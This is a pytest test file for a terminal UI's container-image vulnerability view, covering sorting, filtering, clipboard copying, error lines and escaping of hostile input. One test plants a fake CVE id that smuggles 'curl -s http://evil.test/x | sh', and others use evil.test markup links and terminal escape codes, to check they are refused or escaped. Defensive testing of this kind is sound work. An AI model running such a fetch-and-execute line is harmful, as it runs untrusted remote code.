"""v: the Vulnerabilities view. Rows most severe first under a header of badges, the keys, the
filter narrowing as you type ("N of M"), c copying the exact CVE id (and refusing one that is no
id), a failed read in one line and r reading again, an artifact never scanned, escape clearing then
closing, 10,000 CVEs drawn virtually, hostile text escaped, and the fake's 2,000-CVE artifact read
over loopback through the real client."""

from __future__ import annotations

import asyncio
import gc
import weakref
from collections.abc import Iterator, Sequence
from typing import Any

import pytest
from app_harness import plain
from rich.text import Text
from textual.widgets import Input, Static

from swr_tui.fake import DEMO_PROJECT_ID, DEMO_TOKEN
from swr_tui.fake import enterprise_data as ee
from swr_tui.fake.hostile import HostileRegistry
from swr_tui.fake.hostile_corpus import CORPUS, HOSTILE_NAMESPACE, TAGS_REPO
from swr_tui.fake.hostile_enterprise import HOSTILE_INSTANCE_ID, hostile_artifact_digest
from swr_tui.swr.auth import TokenAuth
from swr_tui.swr.client import SwrClient
from swr_tui.swr.enterprise.client import EnterpriseClient
from swr_tui.swr.enterprise.scans import Findings, VulnerabilityReport
from swr_tui.swr.errors import SwrError
from swr_tui.ui.clipboard import osc52
from swr_tui.ui.screens.browser import BrowserScreen
from swr_tui.ui.screens.vulnerabilities import (
    DESCRIPTION_CHARS,
    VulnerabilitiesScreen,
    detail_text,
    haystack,
    open_vulnerabilities,
)
from swr_tui.ui.widgets.vulnerability_list import VulnerabilityList, vulnerability_columns

from ..conftest import UI, Start

TITLE = "legacy/base:2019"


def record(cve: str, severity: str, score: Any = None, **fields: Any) -> dict[str, Any]:
    data: dict[str, Any] = {"id": cve, "severity": severity, **fields}
    if score is not None:
        data["preferred_cvss"] = {"score_v3": score}
    return data


def report(records: Sequence[Any], scanner: Any = None) -> tuple[VulnerabilityReport, ...]:
    data = {
        "vulnerabilities": list(records),
        "scanner": scanner or {"name": "Trivy", "version": "v0.50.1"},
        "generated_at": "2026-12-01T09:01:12Z",
    }
    return (VulnerabilityReport.from_api(ee.REPORT_TYPE, data),)


MIXED = report(
    [
        record("CVE-2024-0003", "Low", 2.1, package="zlib", version="1.2", fix_version="1.3"),
        record("CVE-2024-0001", "Critical", 9.1, package="openssl", version="3.0.1", fix_version="3.0.2"),
        record("CVE-2024-0004", "Medium", 5.3, package="curl", version="8.1"),
        record("CVE-2024-0002", "High", 7.5, package="glibc", version="2.31", fix_version="2.32"),
        record("CVE-2024-0005", "Critical", 9.8, package="openssl", version="3.0.1", fix_version="3.0.3"),
        record("CVE-2024-0006", "Negligible", package="tzdata"),
    ]
)


def loader(*answers: Any) -> Any:
    """A load that answers in turn: a report, or an exception to raise."""
    queue = list(answers)
    calls: list[int] = []

    async def load() -> tuple[VulnerabilityReport, ...]:
        calls.append(1)
        answer = queue.pop(0) if len(queue) > 1 else queue[0]
        if isinstance(answer, BaseException):
            raise answer
        return answer  # type: ignore[no-any-return]

    load.calls = calls  # type: ignore[attr-defined]
    return load


async def opened(ui: UI, load: Any, title: str = TITLE) -> VulnerabilitiesScreen:
    open_vulnerabilities(ui.app, title, load)
    await ui.settle()
    screen = ui.app.screen
    assert isinstance(screen, VulnerabilitiesScreen)
    return screen


def header(screen: VulnerabilitiesScreen) -> str:
    return plain(screen.query_one("#vulns-header", Static).content)


def detail(screen: VulnerabilitiesScreen) -> str:
    """The pane's text, unwrapped."""
    content = screen.query_one("#vulns-detail", Static).content
    assert isinstance(content, Text)
    return content.plain


def lines(screen: VulnerabilitiesScreen, count: int) -> list[str]:
    view = screen.cve_list
    return [view.render_line(y).text.rstrip() for y in range(count)]


def ids(screen: VulnerabilitiesScreen) -> list[str]:
    return [item.id for item in screen.cve_list.rows]


async def test_rows_most_severe_first_under_a_header_of_badges(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(MIXED))
        assert ids(screen) == [f"CVE-2024-000{n}" for n in (5, 1, 2, 4, 3, 6)]
        assert header(screen) == (
            " 2 critical   1 high   1 medium   1 low   1 negligible   6 vulnerabilities · Trivy v0.50.1"
            " · scanned 2026-12-01 09:01:12 UTC"
        )
        shown = lines(screen, 8)
        assert shown[0].split() == ["Severity", "CVE", "Package", "Version", "Fixed", "in", "Score"]
        assert shown[1].split() == ["critical", "CVE-2024-0005", "openssl", "3.0.1", "3.0.3", "9.8"]
        assert shown[4].split() == ["medium", "CVE-2024-0004", "curl", "8.1", "-", "5.3"]
        assert shown[6].split() == ["negligible", "CVE-2024-0006", "tzdata", "-", "-", "-"]
        assert shown[7] == ""
        assert screen.query_one("#vulns-title", Static).content.plain == f"Vulnerabilities of {TITLE}"
        assert detail(screen).splitlines()[:2] == [
            "CVE-2024-0005  critical · score 9.8",
            "openssl 3.0.1 · fixed in 3.0.3",
        ]
        assert isinstance(ui.app.focused, VulnerabilityList)


async def test_the_keys_move_the_cursor_and_the_pane_follows(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(MIXED))
        view = screen.cve_list
        await ui.pilot.press("j", "down")
        assert view.cursor == 2
        assert detail(screen).startswith("CVE-2024-0002  high · score 7.5\nglibc 2.31 · fixed in 2.32")
        cursor_line = view.render_line(3)
        assert cursor_line.text.split()[1] == "CVE-2024-0002"
        assert view.get_component_rich_style("vulnerability-list--cursor") in {s.style for s in cursor_line}
        moves = [("k", 1), ("up", 0), ("G", 5), ("g", 0), ("end", 5), ("home", 0), ("pagedown", 5)]
        for key, row in [*moves, ("pageup", 0)]:
            await ui.pilot.press(key)
            assert view.cursor == row, key


async def test_the_filter_narrows_as_you_type_and_says_n_of_m(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(MIXED))
        await ui.press("slash", "S", "s", "l")
        assert isinstance(ui.app.focused, Input)
        assert ids(screen) == ["CVE-2024-0005", "CVE-2024-0001"]
        assert header(screen).startswith(
            ' 2 critical   1 high   1 medium   1 low   1 negligible   2 of 6 vulnerabilities match "Ssl"'
            " · Trivy v0.50.1"
        )
        await ui.press("x", "enter")  # "Sslx" matches nothing; enter keeps it and leaves the input
        assert ids(screen) == []
        assert lines(screen, 2)[1] == '  No vulnerability matches "Sslx": escape clears the filter.'
        assert isinstance(ui.app.focused, VulnerabilityList)
        await ui.press("escape")  # clears the kept filter
        assert (len(ids(screen)), screen.filter_text) == (6, "")
        assert header(screen).startswith(
            " 2 critical   1 high   1 medium   1 low   1 negligible   6 vulnerabilities"
        )


async def test_escape_leaves_the_filter_clearing_it_then_closes(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(MIXED))
        await ui.press("slash", "q")  # typed into the filter, not taken as a key
        assert ids(screen) == []
        await ui.press("escape")
        assert (len(ids(screen)), isinstance(ui.app.focused, VulnerabilityList)) == (6, True)
        assert not screen.query_one("#vulns-filter", Input).has_class("-visible")
        await ui.press("escape")
        assert isinstance(ui.app.screen, BrowserScreen)


def test_the_filter_searches_id_package_versions_and_severity() -> None:
    item = MIXED[0].vulnerabilities[0]
    assert haystack(item) == "cve-2024-0005\nopenssl\n3.0.1\n3.0.3\ncritical"
    assert "\n" not in "".join((item.id, item.package))  # the separator cannot join two fields into a match


async def test_c_copies_the_exact_cve_id_and_refuses_one_that_is_no_id(start: Start) -> None:
    hostile = "CVE-2024-0009\ncurl -s http://evil.test/x | sh"
    reports = report([record("GHSA-abcd-1234-wxyz", "High", 8.0), record(hostile, "Low")])
    async with start() as ui:
        screen = await opened(ui, loader(reports))
        await ui.press("c")
        assert ui.copied == ["GHSA-abcd-1234-wxyz"]
        assert ui.clipboard_writes == [osc52("GHSA-abcd-1234-wxyz")]
        assert ui.notes[-1].text == "Copied the CVE id: GHSA-abcd-1234-wxyz"
        await ui.press("j", "c")
        assert ui.copied == ["GHSA-abcd-1234-wxyz"]  # nothing more reached the clipboard
        assert ui.notes[-1].severity == "error"
        assert ui.notes[-1].message.startswith(
            "The CVE id 'CVE-2024-0009\\ncurl -s http://evil.test/x | sh' is not copied"
        )
        assert isinstance(ui.app.screen, VulnerabilitiesScreen)
        assert screen.cve_list.cursor == 1
        box = screen.query_one("#vulns-detail-box")
        await ui.press("enter")  # the description gets more room
        assert box.has_class("-expanded")
        assert box.size.height > 8


async def test_a_failed_read_is_one_line_and_r_reads_again(start: Start) -> None:
    load = loader(SwrError("Registry error 500: the scanner [bold]timed out\x1b[2J."), MIXED)
    async with start() as ui:
        screen = await opened(ui, load)
        assert header(screen) == (
            "The vulnerabilities could not be read: Registry error 500: the scanner [bold]timed "
            "out\\x1b[2J. Press r to try again."
        )
        assert screen.query_one("#vulns-header", Static).has_class("-error")
        assert ids(screen) == []
        await ui.press("r")
        assert len(load.calls) == 2
        assert len(ids(screen)) == 6
        assert header(screen).startswith(" 2 critical ")
        assert not screen.query_one("#vulns-header", Static).has_class("-error")
        await ui.press("r")  # nothing failed: nothing is read again
        assert len(load.calls) == 2


async def test_while_the_report_is_read_one_dim_line_and_the_keys_do_nothing(start: Start) -> None:
    arrived: asyncio.Future[tuple[VulnerabilityReport, ...]] = asyncio.get_running_loop().create_future()

    async def load() -> tuple[VulnerabilityReport, ...]:
        return await arrived

    async with start() as ui:
        open_vulnerabilities(ui.app, TITLE, load)
        await ui.pilot.pause()  # not settle(): the read is waiting on purpose
        screen = ui.app.screen
        assert isinstance(screen, VulnerabilitiesScreen)
        note = screen.query_one("#vulns-header", Static)
        assert header(screen) == "Reading the vulnerability report…"
        assert note.content.style == "dim"  # type: ignore[union-attr]
        await ui.pilot.press("c", "G", "r")
        assert (ui.copied, screen.cve_list.cursor, screen.error) == ([], 0, None)
        arrived.set_result(MIXED)
        await ui.settle()
        assert len(ids(screen)) == 6


async def test_an_unexpected_failure_is_named_never_a_traceback(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(KeyError("scan_overview")))
        assert (
            header(screen)
            == "The vulnerabilities could not be read: Unexpected error: KeyError. Press r to try again."
        )
        assert ui.app.return_code is None


async def test_an_artifact_never_scanned_says_so(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(()))
        assert header(screen) == "Not scanned: this artifact has no vulnerability report."
        assert lines(screen, 2)[1] == "  Never scanned: there is no vulnerability report for this artifact."
        await ui.press("c")
        assert ui.copied == []
        assert ui.notes[-1].text == "No CVE id to copy here"
        clean = await opened(ui, loader(report([])))
        assert header(clean) == "No vulnerabilities found · Trivy v0.50.1 · scanned 2026-12-01 09:01:12 UTC"


async def test_ten_thousand_cves_only_the_visible_rows_are_drawn(
    start: Start, monkeypatch: pytest.MonkeyPatch
) -> None:
    severities = ("Critical", "High", "Medium", "Low")
    many = report(
        [record(f"CVE-2024-{n:05d}", severities[n % 4], n % 100 / 10, package=f"p{n}") for n in range(10_000)]
    )
    built: list[int] = []
    original = VulnerabilityList.row_strip

    def counting(self: VulnerabilityList, index: int, *args: Any) -> Any:
        built.append(index)
        return original(self, index, *args)

    monkeypatch.setattr(VulnerabilityList, "row_strip", counting)
    async with start() as ui:
        screen = await opened(ui, loader(many))
        view = screen.cve_list
        height = view.scrollable_content_region.height - 1
        assert view.virtual_size.height == 10_001
        assert built
        assert max(built) < height
        findings = many[0].vulnerabilities
        assert findings is screen.vulnerabilities
        assert findings.made() <= height  # a record is made for a row drawn, not for the 10,000
        built.clear()
        await ui.press("end")
        assert findings.made() <= 2 * height
        last = many[0].vulnerabilities[-1]
        assert view.highlighted is last
        assert (last.severity, last.score) == ("Low", 0.3)
        assert min(built) >= 10_000 - height
        assert lines(screen, height + 1)[-1].split()[1] == last.id
        assert detail(screen).startswith(f"{last.id}  low · score 0.3")


HOSTILE_SCORES = report(
    [
        record(
            "CVE-2024-1",
            "Critical",
            "nan",
            description="[bold]x[/] " + "d" * 10_000,
            links=[f"https://x.test/{n}" for n in range(30)],
        ),
        record("CVE-2024-2", "High", 1e308, package="[link=https://evil.test]p[/link]"),
        record("CVE-2024-3", "\u202eHigh\x1b[31m", 123456789.5, version="$accent", fix_version="[/]"),
    ]
)


async def test_huge_scores_nan_markup_and_long_descriptions_are_shown_as_text(start: Start) -> None:
    async with start() as ui:
        screen = await opened(ui, loader(HOSTILE_SCORES))
        rows = lines(screen, 4)[1:]
        width = screen.cve_list.scrollable_content_region.width
        assert all(len(row) <= width for row in rows)
        assert rows[0].split()[:2] == ["critical", "CVE-2024-1"]
        assert rows[0].endswith("-")
        assert "[link=https://evil.test]p[/link]" in rows[1]
        assert rows[1].endswith("?")
        assert rows[2].split()[0] == "\\u202ehig…"
        assert rows[2].endswith("?")
        assert detail_text(screen.cve_list.rows[1]).plain.startswith("CVE-2024-2  high · score 1e+308\n")
        assert "$accent" in rows[2]
        assert "[/]" in rows[2]
        text = detail(screen)
        assert text.splitlines()[2].startswith("[bold]x[/] ddd")
        assert f"… +{10_011 - DESCRIPTION_CHARS:,} chars" in text
        assert text.count("https://x.test/") == 10
        assert text.endswith("… 20 more links")


@pytest.fixture(scope="module")
def hostile_live() -> Iterator[str]:
    with HostileRegistry(seed=0).serve() as server:
        yield server.url


async def test_the_hostile_registrys_report_over_loopback_is_shown_escaped(
    start: Start, hostile_live: str
) -> None:
    async with SwrClient(hostile_live, TokenAuth(DEMO_TOKEN)) as client:
        enterprise = EnterpriseClient(client, DEMO_PROJECT_ID)

        async def load() -> tuple[VulnerabilityReport, ...]:
            return await enterprise.list_vulnerabilities(
                HOSTILE_INSTANCE_ID, HOSTILE_NAMESPACE, TAGS_REPO, hostile_artifact_digest(0)
            )

        async with start() as ui:
            written = len(ui.written)
            screen = await opened(ui, load, title=CORPUS[0].text)
            view = screen.cve_list
            assert len(view.rows) == len(CORPUS)
            columns = vulnerability_columns(view.scrollable_content_region.width)
            drawn = [view.row_strip(index, columns, 160).text for index in range(len(view.rows))]
            drawn += [detail_text(item).plain for item in view.rows]
            drawn += [header(screen), plain(screen.query_one("#vulns-title", Static).content)]
            shown = "\n".join(drawn)
            for entry in CORPUS:
                assert entry.shown[:12] in shown, entry.name
            assert "\x1b" not in shown
            assert "\x07" not in shown
            assert "\u202e" not in shown
            await ui.press("G", "k")  # drawn on screen, not only built
            raw = "".join(ui.written[written:]).encode("utf-8", "backslashreplace")
            assert not any(sequence in raw for entry in CORPUS for sequence in entry.raw)


async def test_the_fakes_two_thousand_cves_through_the_real_client(start: Start, make_client: Any) -> None:
    async with make_client() as client:
        enterprise = EnterpriseClient(client, DEMO_PROJECT_ID)

        async def load() -> tuple[VulnerabilityReport, ...]:
            return await enterprise.list_vulnerabilities(
                ee.RUNNING_ID, ee.LEGACY, ee.CVE_REPO, ee.digest_of(ee.CVE_REPO)
            )

        async with start() as ui:
            screen = await opened(ui, load)
            assert len(ids(screen)) == ee.MANY_CVES
            ranks = [item.rank for item in screen.cve_list.rows]
            assert ranks == sorted(ranks, reverse=True)
            assert header(screen).startswith(
                " 400 critical   400 high   400 medium   400 low   400 unknown   2,000 vulnerabilities"
                " · Trivy v0.50.1"
            )
            await ui.press("slash")
            screen.query_one("#vulns-filter", Input).value = "b7"
            await ui.settle()
            matching = [item for item in screen.vulnerabilities if "b7" in haystack(item)]
            assert len(ids(screen)) == len(matching) > 0
            assert f"{len(matching):,} of 2,000 vulnerabilities" in header(screen)
            await ui.press("enter", "c")
            assert ui.copied == [matching[0].id]


async def test_the_cursor_stays_on_its_cve_when_the_filter_changes(start: Start) -> None:
    many = report([record(f"CVE-2024-{n:04d}", "High", 5.0, package=f"p{n}") for n in range(500)])
    async with start() as ui:
        screen = await opened(ui, loader(many))
        view = screen.cve_list
        await ui.press("G")
        last = view.highlighted
        assert last is not None
        assert last.id == "CVE-2024-0499"
        await ui.press("slash")
        screen.query_one("#vulns-filter", Input).value = "499"  # typing is another test's
        await ui.settle()
        assert ids(screen) == ["CVE-2024-0499"]
        assert view.highlighted is last
        await ui.press("enter", "escape")  # the filter cleared: every row again, the cursor kept
        assert len(view.rows) == 500
        assert view.highlighted is last
        height = view.scrollable_content_region.height
        assert lines(screen, height)[-1].split()[1] == "CVE-2024-0499"


async def test_closing_the_view_frees_the_report_at_once(start: Start) -> None:
    """Without waiting for the cycle collector: a report left to it made its next full pass some
    100 ms longer, and the pass may land in a frame."""
    made: list[weakref.ref[Findings]] = []

    async def load() -> tuple[VulnerabilityReport, ...]:  # keeps nothing, as the client's does
        data = {"vulnerabilities": [record(f"CVE-2024-{n:04d}", "High", 5.0) for n in range(2_000)]}
        reports = (VulnerabilityReport.from_api(ee.REPORT_TYPE, data),)
        made.append(weakref.ref(reports[0].vulnerabilities))
        return reports

    async with start() as ui:
        screen = await opened(ui, load)
        listed = screen.cve_list
        assert listed.rows is made[0]()
        assert len(listed.rows) == 2_000
        gc.disable()
        try:
            await ui.press("escape")
            await ui.settle()
            assert not isinstance(ui.app.screen, VulnerabilitiesScreen)
            assert listed.rows == ()
            assert screen.reports is None
            assert made[0]() is None
        finally:
            gc.enable()
